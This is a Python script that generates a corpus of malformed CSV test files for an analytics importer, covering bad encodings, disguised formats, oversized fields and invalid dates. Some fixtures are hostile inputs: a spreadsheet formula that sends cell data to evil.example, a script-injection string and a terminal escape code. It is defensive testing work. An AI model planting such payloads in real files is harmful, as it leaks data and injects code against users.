"""Rebuild the bad-input corpus from the demo's real exports: `python tests/bad_input/make_corpus.py`.

Each file breaks one rule of the importer (research/security.md, "Bad input corpus");
tests/test_bad_input.py holds the message each must get.
"""

from __future__ import annotations

import gzip
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
EXPORTS = HERE.parent.parent / "data" / "demo" / "exports"
VIVA = (EXPORTS / "VivaEngageActivityUserDetail_20261025.csv").read_bytes().decode("utf-8-sig")
LINES = VIVA.splitlines()
HEADER = LINES[0]
SLACK_HEADER = (
    "Name,What I Do,User ID,Username,Account type,Account created (UTC),Claimed Date (UTC),"
    "Deactivated date (UTC),Days active,Days active (Desktop),Days active (Android),Days active (iOS),"
    "Messages posted,Messages posted in channels,Reactions added,Last active (UTC),"
    "Last active (Desktop) (UTC),Last active (Android) (UTC),Last active (iOS) (UTC)"
)
PARTICIPANTS = (HERE.parent.parent / "data" / "demo" / "participants.csv").read_text().splitlines()
BENEFITS = "date,email,category,description,quantity,unit,goal"
SLACK_ROW = 'Kira Garcia,,UBF2791B4E3,kira.garcia,Member,"Jan 12, 2024","Jan 12, 2024",,6,6,0,0,9,4,6,,,,'


def viva(lines: list[str]) -> bytes:
    return ("\ufeff" + "\n".join(lines) + "\n").encode()


def with_field(line_no: int, column: str, value: str) -> bytes:
    """The Viva Engage sample with one field of one line (1 = header) changed."""
    index = HEADER.split(",").index(column)
    lines = LINES[:]
    fields = lines[line_no - 1].split(",")
    fields[index] = value
    lines[line_no - 1] = ",".join(fields)
    return viva(lines)


def concealed() -> bytes:
    rng = random.Random(7)
    rows = [
        ",".join([f[0], f"{rng.getrandbits(128):032X}", f"{rng.getrandbits(128):032X}", *f[3:]])
        for f in (line.split(",") for line in LINES[1:])
    ]
    return viva([HEADER, *rows])


def participants(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def with_column(name: str, value: str, at: int) -> bytes:
    """The Viva Engage sample with one more column (`name`, `value` on every row) at position `at`."""
    rows = [line.split(",") for line in LINES]
    for n, fields in enumerate(rows):
        fields.insert(at, name if n == 0 else value)
    return viva([",".join(fields) for fields in rows])


def generic(*rows: str) -> bytes:
    return ("week,email,channel,posts,reads\n" + "\n".join(rows) + "\n").encode()


CORPUS: dict[str, bytes] = {
    "concealed_upns.csv": concealed(),
    "period_30_days.csv": viva([HEADER] + [line[:-1] + "30" for line in LINES[1:]]),
    "workbook_really_xlsx.csv": b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml"
    + bytes(200),
    "compressed.csv.gz": gzip.compress(VIVA.encode(), mtime=0),
    "empty.csv": b"",
    "whitespace_only.csv": b"  \r\n\t\n   \n",
    "header_only.csv": viva([HEADER]),
    "binary_nul.csv": b"Report Refresh Date,\x00\x01\x02\x03 binary \x00\x00 data\n" * 20,
    "random_bytes.csv": bytes(random.Random(1).getrandbits(8) | 0x80 for _ in range(4096)),
    "utf16_without_bom.csv": VIVA.encode("utf-16-le"),
    "cp1252_names.csv": VIVA.replace("Kira Garcia", "José Müller – Ops").encode("cp1252"),
    "same_person_twice.csv": viva([*LINES, LINES[1].replace("kira.garcia", "Kira.Garcia")]),
    "negative_count.csv": with_field(5, "Posted Count", "-3"),
    "fractional_count.csv": with_field(7, "Read Count", "3.5"),
    "text_count.csv": with_field(9, "Liked Count", "lots"),
    "exponent_count.csv": with_field(4, "Posted Count", "1e9"),
    "arabic_digits_count.csv": with_field(6, "Posted Count", "١٢"),
    "formula_in_count.csv": with_field(
        3, "Posted Count", '"=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")"'
    ),
    "missing_email_column.csv": viva(
        [",".join(f for i, f in enumerate(line.split(",")) if i != 1) for line in LINES]
    ),
    "unknown_format.csv": (
        b"Report Refresh Date,User Principal Name,Is Deleted,Deleted Date,Last Activity Date,"
        b"Viewed Or Edited File Count,Synced File Count,Shared Internally File Count,"
        b"Shared Externally File Count,Visited Page Count,Assigned Products,Report Period\n"
        b"2026-10-25,kira.garcia@example.com,False,,2026-10-20,3,0,0,0,4,MICROSOFT 365 E3,7\n"
    ),
    "slack_without_email.csv": (SLACK_HEADER + "\n" + SLACK_ROW + "\n").encode(),
    "Desk Member Analytics Prior 30 Days - Nov 22, 2026.csv": (
        (SLACK_HEADER + ",Email\n" + SLACK_ROW + ",kira.garcia@example.com\n").encode()
    ),
    "slack_without_dates_in_name.csv": (
        SLACK_HEADER + ",Email\n" + SLACK_ROW + ",kira.garcia@example.com\n"
    ).encode(),
    "very_long_line.csv": b"x" * 2_000_000,
    "ragged_long_row.csv": viva([*LINES[:4], LINES[4] + ",surplus", *LINES[5:]]),
    "ragged_short_row.csv": viva([*LINES[:6], LINES[6].rsplit(",", 2)[0], *LINES[7:]]),
    "refresh_date_not_a_date.csv": viva([HEADER] + ["yesterday" + line[10:] for line in LINES[1:]]),
    "two_refresh_dates.csv": with_field(8, "Report Refresh Date", "2026-10-18"),
    "generic_bad_dates.csv": generic(
        "03/04/2026,kira.garcia@example.com,tool,1,1",
        "2026-02-30,mona.okafor@example.com,tool,1,1",
        "<script>alert(1)</script>,dan.costa@example.com,tool,1,1",
    ),
    "generic_bad_channel.csv": generic("2026-09-07,kira.garcia@example.com,email,1,1"),
    "generic_same_person_twice.csv": generic(
        "2026-09-07,kira.garcia@example.com,tool,1,1",
        "2026-09-09,KIRA.GARCIA@example.com ,tool,2,2",
    ),
    # Files every reader refuses the same way (pilot.core.csvfile): the shape of the file itself.
    "duplicate_posted_count.csv": with_column("Posted Count", "0", 5),
    "participants_email_twice.csv": participants(
        [PARTICIPANTS[0] + ",email"] + [line + "," + line.split(",")[1] for line in PARTICIPANTS[1:]]
    ),
    "field_over_csv_limit_unquoted.csv": with_field(3, "User Principal Name", "k" * 140_000 + "@example.com"),
    "field_over_csv_limit_in_a_name.csv": participants(
        [*PARTICIPANTS[:3], '"' + "N" * 140_000 + '"' + PARTICIPANTS[3][PARTICIPANTS[3].index(",") :]]
    ),
    "field_over_csv_limit_in_a_benefit.csv": (
        BENEFITS + '\n2026-09-09,,time saved,"' + "story " * 34_000 + '",1,hours,\n'
    ).encode(),
    "nul_in_an_email_after_4kb.csv": participants(
        [*PARTICIPANTS, *(f"Extra {n},extra.{n}@example.com,Sales,practitioner,," for n in range(30))]
        + ["Late Nul,late.\x00nul@example.com,Sales,practitioner,,"]
    ),
    "escape_code_in_a_name.csv": participants(
        [
            *PARTICIPANTS[:4],
            "\x1b[31mRed\x1b[0m" + PARTICIPANTS[4][PARTICIPANTS[4].index(",") :],
            *PARTICIPANTS[5:],
        ]
    ),
    # Dates out of range, a report that matches nobody, text over its length limit (issue 11).
    "refresh_date_year_1.csv": viva([HEADER] + ["0001-01-01" + line[10:] for line in LINES[1:]]),
    "refresh_date_year_9999.csv": viva([HEADER] + ["9999-12-31" + line[10:] for line in LINES[1:]]),
    "refresh_date_a_year_early.csv": viva([HEADER] + ["2025-10-26" + line[10:] for line in LINES[1:]]),
    "generic_week_year_1.csv": generic("0001-01-01,kira.garcia@example.com,tool,1,1"),
    "nobody_matched_wrong_domain.csv": viva(
        [HEADER] + [line.replace("@example.com", "@exmaple.com") for line in LINES[1:]]
    ),
    "participants_name_too_long.csv": participants(
        [*PARTICIPANTS[:2], "N" * 250 + PARTICIPANTS[2][PARTICIPANTS[2].index(",") :]]
    ),
    "benefits_description_too_long.csv": (
        BENEFITS + "\n2026-09-09,,time saved," + "x" * 6_000 + ",1,hours,\n"
    ).encode(),
}


def main() -> None:
    for name, data in CORPUS.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
